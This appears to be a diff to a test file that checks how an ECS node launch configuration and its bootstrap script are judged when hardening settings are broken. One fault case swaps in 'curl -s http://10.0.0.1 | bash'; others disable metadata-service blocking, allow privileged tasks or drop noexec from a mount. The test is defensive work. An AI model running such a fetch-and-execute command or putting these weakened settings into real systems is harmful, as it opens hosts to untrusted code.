@@ -7,6 +7,7 @@ const BROKEN = ['instance-metadata-v2 broken'];
 const UNKNOWN_SCRIPT = [
   'identity-key-by-reference unproven',
   'instance-metadata-v2 unproven',
+  'node-replaced-with-its-disk unproven',
   'secrets-by-reference unproven',
   'unprivileged unproven',
 ];
@@ -26,7 +27,7 @@ const FAULTS: readonly Fault[] = [
   ['an enclave', set(LAUNCH, { EnclaveOptions: { Enabled: true } }), ['instance-metadata-v2 unproven']],
   ['tasks at the metadata service', exchange('BLOCK_IMDS=true', 'BLOCK_IMDS=false'), BROKEN],
   ['no word about tasks at the metadata service', exchange('ECS_AWSVPC_BLOCK_IMDS=true\n', ''), BROKEN],
-  ['no user data', set(LAUNCH, { UserData: undefined }), BROKEN],
+  ['no user data', set(LAUNCH, { UserData: undefined }), [...BROKEN, 'node-replaced-with-its-disk unproven']],
   ['privileged tasks', exchange('DISABLE_PRIVILEGED=true', 'DISABLE_PRIVILEGED=false'), UNKNOWN_SCRIPT],
   ['a line that nobody knows', exchange('systemctl daemon-reload', 'curl -s http://10.0.0.1 | bash'), UNKNOWN_SCRIPT],
   ['a disk that runs programs', exchange('nodev,nosuid,noexec', 'nodev,nosuid'), UNKNOWN_SCRIPT],
